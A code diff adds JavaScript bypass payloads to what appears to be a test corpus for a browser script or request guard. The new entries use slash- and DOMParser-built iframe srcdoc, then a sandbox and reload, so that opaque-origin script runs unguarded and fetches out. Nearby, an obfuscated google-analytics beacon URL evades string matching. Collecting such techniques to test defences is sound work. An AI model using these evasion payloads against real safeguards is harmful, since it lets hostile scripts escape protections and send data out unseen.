@@ -40,6 +40,8 @@ SB = (
     f"{OPAQUE_FETCH}<\\/script>\"></iframe>','text/html').body.firstChild;"
 )
 CSP_ATTR = "f.setAttribute('csp',\"script-src 'nonce-abc'\");"
+# once frame f has loaded: sandboxed (opaque) and reloaded
+RELOAD = "f.onload=()=>{f.onload=null;f.sandbox='allow-scripts';f.contentWindow.location.reload()};"
 # a tab and a line break, made at run time (T, N): nothing on the server sees them
 T = "var T=String.fromCharCode(9),N=String.fromCharCode(10);"
 
@@ -432,6 +434,17 @@ TECHNIQUES = {
     "exec-command-insert-image": (
         "d.contentEditable=true;d.focus();document.execCommand('insertImage',false,"
         "'https://www.google'+'-analytics.com/g/collect?v=2')"
+    ),
+    # a srcdoc that never got the frame prefix (after a slash; from DOMParser), then a
+    # sandbox and a reload: its document, opaque now, ran unguarded
+    "slash-srcdoc-sandbox-reload": (
+        "d.innerHTML='<iframe/srcdoc=\"<p>x<script>origin==`null`&&"
+        f"{OPAQUE_FETCH}<\\/script>\"></iframe>';var f=d.firstChild;{RELOAD}"
+    ),
+    "dom-parser-srcdoc-sandbox-reload": (
+        "var f=new DOMParser().parseFromString('<iframe srcdoc=\"<p>x<script>origin==`null`&&"
+        f"{OPAQUE_FETCH}<\\/script>\"></iframe>','text/html').body.firstChild;{RELOAD}"
+        "d.append(f)"
     ),
     "desync-textarea-img": (
         f"var u={SPLIT};d.innerHTML='<textarea><b title=\\'</textarea><img src=\"'+u+'\">"
